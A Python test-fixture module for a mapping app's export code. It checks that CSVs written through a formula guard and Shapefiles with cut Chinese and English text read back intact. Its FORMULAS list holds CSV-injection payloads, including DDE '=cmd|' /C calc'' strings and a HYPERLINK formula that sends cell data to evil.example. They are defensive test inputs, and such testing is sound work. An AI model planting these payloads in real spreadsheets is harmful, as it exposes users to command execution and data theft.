"""Corpus cases of round two's export slice: files the app itself wrote, read
back by the app with the text they held.

- CSVs written through the formula guard (spreadsheet_safe.py): the quote put
  before `=cmd|…`, `+1+1`, `@SUM(…)` and a tab or carriage return comes off
  again, and text that began with a quote keeps it;
- zipped Shapefiles written with the cuts accepted, in UTF-8 and GBK: names
  shortened on character boundaries (no longer a name cut mid-character that
  the app could not read), text cut on character boundaries.
"""
from __future__ import annotations

from pathlib import Path

import geopandas as gpd
import pandas as pd
from shapely.geometry import Point

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1+1", "-1+1",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=1+1", "''+1", "'x", "-5", "-"]


def _column_is(column, values):
    def check(layer):
        assert column in layer.frame.columns, list(layer.frame.columns)
        assert list(layer.frame[column]) == values, list(layer.frame[column])
    return check


def build(folder: Path) -> dict[str, tuple[Path, tuple]]:
    from xixia_map.data.spreadsheet_safe import write_csv
    from xixia_map.export.data_export import write_features

    cases: dict[str, tuple[Path, tuple]] = {}
    table = pd.DataFrame({"name": FORMULAS, "lon": [111.48] * len(FORMULAS), "lat": [33.30] * len(FORMULAS)})
    path = folder / "exported_formulas.csv"
    write_csv(table, path)
    cases[path.name] = (path, ("loads", _column_is("name", FORMULAS)))

    long_zh, long_en = "长" * 208, "a" * 300
    frame = gpd.GeoDataFrame({"项目名称说明": [long_zh], "project_description": [long_en], "layer": ["t"]},
                             geometry=[Point(111.48, 33.30)], crs=4326)
    for encoding, hanzi, name in (("UTF-8", 84, "项目名"), ("GBK", 127, "项目名称说")):
        path = folder / f"exported_cut_{encoding.lower().replace('-', '')}.zip"
        write_features(frame, path, shapefile_encoding=encoding, shapefile_accept_cuts=True)

        def check(layer, name=name, hanzi=hanzi):
            _column_is(name, ["长" * hanzi])(layer)
            _column_is("project_de", ["a" * 254])(layer)
        cases[path.name] = (path, ("loads", check))
    return cases
